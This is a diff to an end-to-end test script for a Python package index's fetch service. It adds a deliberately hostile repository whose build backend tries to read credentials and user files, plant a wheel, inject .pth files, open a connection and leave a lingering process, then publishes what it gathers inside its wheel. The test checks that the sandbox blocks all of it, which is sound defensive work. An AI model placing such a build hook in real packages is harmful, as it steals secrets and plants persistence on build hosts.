@@ -126,6 +126,75 @@ ${2:-}
 EOF
 }
 
+evil_repo() {  # a repository whose in-tree build backend attacks the fetcher; see test_fetch
+    mkdir -p "$WORK/git/evil"
+    printf '%s\n' "$PORT" > "$WORK/git/evil/PORT"
+    printf '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n' \
+        > "$WORK/git/evil/pyproject.toml"
+    cat > "$WORK/git/evil/evil_backend.py" <<'BACKEND'
+import base64, glob, hashlib, io, json, os, socket, subprocess, sys, tarfile, zipfile
+PORT = int(open("PORT").read())
+META = b"Metadata-Version: 2.1\nName: evil-proj\nVersion: 1.0\n\n"
+
+def attempt(loot, label, action):
+    try:
+        loot[label] = str(action())[:200] or "(empty)"
+    except Exception as error:
+        loot[label] = "failed: " + type(error).__name__
+
+def attack():
+    loot = {}
+    attempt(loot, "run-credentials", lambda: [open(p).read() for p in glob.glob("/run/credentials/*/*")]
+            or "failed: none visible")
+    attempt(loot, "credentials-dir", lambda: os.listdir("/etc/pypi-insiders/credentials"))
+    attempt(loot, "users", lambda: open("/etc/pypi-insiders/users").read())
+    attempt(loot, "mirrors", lambda: os.listdir("/var/cache/pypi-insiders/mirrors"))
+    attempt(loot, "store", lambda: open("/var/lib/pypi-insiders/store/gitthing/gitthing-66.6-py3-none-any.whl",
+                                        "w").write("planted"))
+    attempt(loot, "envs", lambda: [open(p + "/zz.pth", "w").write("import os\n") for p in glob.glob(
+        "/var/cache/pypi-insiders/build-envs/envs/*/lib/python3*/site-packages")] or "failed: none visible")
+    attempt(loot, "network", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=3))
+    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "evil-daemon-e2e"],
+                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                     stderr=subprocess.DEVNULL)
+    return json.dumps(loot).encode()
+
+def build_sdist(directory, config_settings=None):
+    data = attack()
+    with tarfile.open(os.path.join(directory, "evil_proj-1.0.tar.gz"), "w:gz") as archive:
+        for name, body in (("evil_proj-1.0/PKG-INFO", META), ("evil_proj-1.0/loot.json", data)):
+            info = tarfile.TarInfo(name)
+            info.size = len(body)
+            archive.addfile(info, io.BytesIO(body))
+    return "evil_proj-1.0.tar.gz"
+
+def _hash(data):
+    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    info = "evil_proj-1.0.dist-info"
+    files = {"loot.json": attack(), f"{info}/METADATA": META,
+             f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n\n"}
+    record = "".join(f"{p},{_hash(d)},{len(d)}\n" for p, d in files.items()) + f"{info}/RECORD,,\n"
+    files[f"{info}/RECORD"] = record.encode()
+    with zipfile.ZipFile(os.path.join(directory, "evil_proj-1.0-py3-none-any.whl"), "w") as archive:
+        for name, body in files.items():
+            archive.writestr(name, body)
+    return "evil_proj-1.0-py3-none-any.whl"
+BACKEND
+    python3 - "$WORK/git/evil" <<'PY'
+import sys
+from dulwich import porcelain
+root = sys.argv[1]
+porcelain.init(root)
+porcelain.add(root, [f"{root}/{n}" for n in ("pyproject.toml", "evil_backend.py", "PORT")])
+author = b"e2e <e2e@localhost>"
+porcelain.commit(root, message=b"evil", author=author, committer=author)
+porcelain.tag_create(root, b"v1.0", author=author, message=b"release", annotated=True)
+PY
+    chmod -R a+rX "$WORK/git"
+}
+
 check_exposure() {  # check_exposure UNIT MAX
     local out exposure
     out=$(systemd-analyze security --no-pager "$1")
@@ -403,20 +472,19 @@ test_reload() {
 # ------------------------------------------------------------------------------------------
 test_fetch() {
     step "a watched git repository: a tag built by the fetch service, another by the timer"
-    # Builds are isolated (python3 -m build); this container must not depend on the registry, so
-    # pip takes setuptools and wheel from Debian's python3-*-whl packages, as an admin would
-    # configure it with `systemctl edit pypi-insiders-fetch.service`.
+    # Builds run sandboxed, their requirements installed beforehand; this container must not
+    # depend on the registry, so pip takes setuptools and wheel from Debian's python3-*-whl
+    # packages, configured as an admin would: [fetch.build_env], for the service and `update`.
     ls /usr/share/python-wheels/setuptools-*.whl /usr/share/python-wheels/wheel-*.whl \
         || fail "python3-setuptools-whl / python3-wheel-whl (Recommends) are not installed"
-    mkdir -p /etc/systemd/system/$FETCH.d
-    printf '[Service]\nEnvironment=PIP_NO_INDEX=1 PIP_FIND_LINKS=/usr/share/python-wheels\n' \
-        > /etc/systemd/system/$FETCH.d/offline.conf
-    systemctl daemon-reload
     # A credential only root can read on disk: the run gets it through LoadCredential= alone.
     # (A local repository needs none; fetching proves it was found and read.)
     printf 'e2e-secret-token\n' > /etc/pypi-insiders/credentials/e2e-token
     chmod 0600 /etc/pypi-insiders/credentials/e2e-token
-    write_config off 'credential = "e2e-token"'
+    write_config off 'credential = "e2e-token"
+[fetch.build_env]
+PIP_NO_INDEX = "1"
+PIP_FIND_LINKS = "/usr/share/python-wheels"'
     git_commit 1.0.0
     timeout 300 systemctl start $FETCH || fail "systemctl start $FETCH"
     [ "$(systemctl show -p Result --value $FETCH)" = success ] || fail "$FETCH result"
@@ -442,18 +510,41 @@ test_fetch() {
     systemctl restart $TIMER
     wait_for 180 "the timer fired and gitthing 1.1.0 is served" \
         page_has "$(index_url /simple/gitthing/)" "gitthing-1.1.0-py3-none-any.whl"
-    rm -r /etc/systemd/system/$TIMER.d /etc/systemd/system/$FETCH.d
+    rm -r /etc/systemd/system/$TIMER.d
     systemctl daemon-reload
     runs=$(journalctl -u $FETCH --no-pager | grep -c 'Finished pypi-insiders-fetch.service' || true)
     [ "$runs" -ge 2 ] || fail "expected 2 fetch runs in the journal, found $runs"
     ok "$runs fetch runs (one by hand, one by the timer)"
 
+    # A watched repository turned hostile: its in-tree backend tries, inside the shipped unit,
+    # what tests/fetch/test_sandbox.py tries, and publishes what it got in its wheel.
+    evil_repo
+    write_config off 'credential = "e2e-token"
+[repos.evil]
+url = "'"$WORK/git/evil"'"
+[fetch.build_env]
+PIP_NO_INDEX = "1"
+PIP_FIND_LINKS = "/usr/share/python-wheels"'
+    timeout 300 systemctl start $FETCH || fail "systemctl start $FETCH (hostile build)"
+    evil_wheel=/var/lib/pypi-insiders/store/evil-proj/evil_proj-1.0-py3-none-any.whl
+    [ -f "$evil_wheel" ] || fail "the hostile build was not published (it must build, and get nothing)"
+    python3 - "$evil_wheel" <<'PY' || fail "the hostile build got something"
+import json, sys, zipfile
+loot = json.loads(zipfile.ZipFile(sys.argv[1]).read("loot.json"))
+print(json.dumps(loot, indent=1))
+got = {k: v for k, v in loot.items() if not str(v).startswith("failed")}
+sys.exit(f"got: {sorted(got)}" if got else 0)
+PY
+    if grep -rl e2e-secret-token /var/lib/pypi-insiders/store; then fail "a secret reached the store"; fi
+    if pgrep -f evil-daemon-e2e; then fail "a process of the hostile build outlived it"; fi
+    [ ! -e /var/lib/pypi-insiders/store/gitthing/gitthing-66.6-py3-none-any.whl ] || fail "it planted a file"
+    ok "hostile build in the shipped unit: no credential, users file, mirror, store, network; nothing left"
+
     # An administrator's habit: `pypi-insiders update` as root. It must run as the service
     # user (nothing root-owned left behind) and still read the root-only credential.
     git_commit 1.2.0
     touch "$WORK/before-root-update"
-    PIP_NO_INDEX=1 PIP_FIND_LINKS=/usr/share/python-wheels timeout 300 pypi-insiders update \
-        || fail "pypi-insiders update as root"
+    timeout 300 pypi-insiders update || fail "pypi-insiders update as root (same build settings)"
     wait_for 15 "gitthing 1.2.0 built by root's update and served" \
         page_has "$(index_url /simple/gitthing/)" "gitthing-1.2.0-py3-none-any.whl"
     owned_by_root=$(find /var/lib/pypi-insiders /var/cache/pypi-insiders -user root \
